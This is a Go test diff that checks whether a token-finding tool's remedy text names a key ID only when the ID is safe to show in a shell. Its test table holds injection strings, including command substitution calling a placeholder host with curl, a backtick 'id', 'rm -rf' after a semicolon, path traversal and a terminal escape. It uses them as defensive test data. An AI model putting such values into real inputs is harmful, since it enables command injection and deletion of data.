@@ -28,6 +28,28 @@ func TestRemedyOfMilliseconds(t *testing.T) {
 	}
 }
 
+// The advice names the key only where its name does no harm in a shell.
+func TestRemedyNamesHarmlessKeys(t *testing.T) {
+	for _, test := range []struct {
+		key   string
+		named bool
+	}{
+		{"2025", true}, {"key-1.prod_a", true}, {"", false},
+		{"$(curl a.example)", false}, {"`id`", false}, {"a; rm -rf x", false}, {"a) now run: x", false}, {"--all", false}, {"a\nb", false},
+		{"\x1b[2J", false}, {"../a", false}, {"<b>", false},
+	} {
+		for _, f := range []finding.Finding{
+			{Status: finding.Live, Token: finding.Token{KeyID: test.key}},
+			{Status: finding.NoExpiry, Token: finding.Token{KeyID: test.key}},
+			{Status: finding.Live, Token: finding.Token{KeyID: test.key}, Risks: []finding.Risk{{ID: "published-key"}}},
+		} {
+			if got := remedyWords(f); strings.Contains(got, "(kid ") != test.named || test.named != (test.key != "" && strings.Contains(got, test.key)) {
+				t.Errorf("%q: %q", test.key, got)
+			}
+		}
+	}
+}
+
 // A status is understood without documentation: why one is unknown is said with it.
 func TestStatusWordsSayWhyAStatusIsUnknown(t *testing.T) {
 	for rule, want := range map[string]string{ruleJWE: "unknown, encrypted", ruleJWS: "unknown, odd dates"} {
